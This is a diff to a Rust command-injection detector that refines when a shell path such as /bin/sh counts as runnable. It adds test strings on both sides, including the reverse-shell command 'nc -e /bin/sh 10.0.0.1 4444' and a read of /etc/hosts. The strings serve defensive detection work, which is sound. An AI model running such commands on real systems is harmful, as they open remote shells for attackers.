@@ -2538,13 +2538,13 @@ fn shell_paths(b: &[u8]) -> Option<Hit> {
                     .iter()
                     .rposition(|c| !c.is_ascii_alphanumeric() && *c != b'/' && *c != b'_')
                     .map_or(from, |x| from + x + 1);
-                // The path must start the value or follow something a shell would run it after.
-                let standalone = start == 0
-                    || matches!(
-                        b[start - 1],
-                        b' ' | b'\t'
-                            | b';'
-                            | b'|'
+                // The path must start the value or follow something a shell would run it after:
+                // a separator, or (after a space) a command or an option that runs programs
+                // (`nc -e /bin/sh`, `sudo /bin/bash`), not a word of prose (`use /bin/bash to`).
+                let runs_after = |c: u8| {
+                    matches!(
+                        c,
+                        b';' | b'|'
                             | b'&'
                             | b'`'
                             | b'('
@@ -2554,7 +2554,25 @@ fn shell_paths(b: &[u8]) -> Option<Hit> {
                             | b'\n'
                             | b'{'
                             | b','
-                    );
+                    )
+                };
+                let standalone = start == 0
+                    || runs_after(b[start - 1])
+                    || matches!(b[start - 1], b' ' | b'\t') && {
+                        let before = b[..start].trim_ascii_end();
+                        let word_start = before
+                            .iter()
+                            .rposition(|c| {
+                                !(c.is_ascii_alphanumeric()
+                                    || matches!(c, b'-' | b'_' | b'.' | b'/'))
+                            })
+                            .map_or(0, |x| x + 1);
+                        let word = &before[word_start..];
+                        before.is_empty()
+                            || runs_after(before[before.len() - 1])
+                            || word.starts_with(b"-")
+                            || command_class(word).is_some()
+                    };
                 if standalone {
                     return Some(Hit::new("cmdi.shell_path", start, w.end));
                 }
@@ -2668,6 +2686,10 @@ mod tests {
             // A reference outside escaped markup still ends a command; markup does not hide a
             // separator of its own.
             "x&lt;whoami",
+            // After a command or an option that runs programs.
+            "sudo /bin/bash",
+            "x && env /bin/sh",
+            "x; nc -e /bin/sh 10.0.0.1 4444",
             "&lt;b&gt;x&lt;/b&gt;; cat /etc/hosts",
             ";wh$x'o'ami",
             ";gcc10.1<<<x",
@@ -2771,6 +2793,9 @@ mod tests {
             "&lt;p&gt;See &lt;a href=\"x\"&gt;link&lt;/a&gt; at &lt;time&gt;10:00&lt;/time&gt;&lt;/p&gt;",
             "&lt;em&gt;test&lt;/em&gt; and &lt;strong&gt;whoami&lt;/strong&gt;",
             "&lt;code&gt;ls -la&lt;/code&gt;",
+            // A program's path named in prose, after a word that runs nothing.
+            "Fixed: use /bin/bash to work around the bug",
+            "Register /bin/more as pager alternative",
             "Use vi! It's great",
             "I love vim! cat pictures are great",
             "the .shell file in your home",
